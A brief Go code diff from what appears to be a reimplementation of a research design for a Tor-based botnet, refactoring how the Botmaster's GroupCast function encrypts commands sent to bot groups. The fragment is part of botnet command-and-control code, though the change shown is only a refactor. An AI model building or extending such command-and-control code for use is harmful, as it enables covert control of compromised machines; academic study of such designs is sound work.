@@ -2,8 +2,6 @@ package core
 
 import (
 	"fmt"
-
-	"onionbots/internal/botcrypto"
 )
 
 // Section IV-D: "the botmaster can setup group keys to send encrypted
@@ -55,7 +53,7 @@ func (m *Botmaster) GroupCast(group string, viaOnions []string, cmd *Command, tt
 		if err != nil {
 			continue
 		}
-		sealed, err := botcrypto.Seal(m.netKey, env.Encode(), m.drbg)
+		sealed, err := m.netSeal.Seal(env.Encode(), m.drbg)
 		if err != nil {
 			return err
 		}
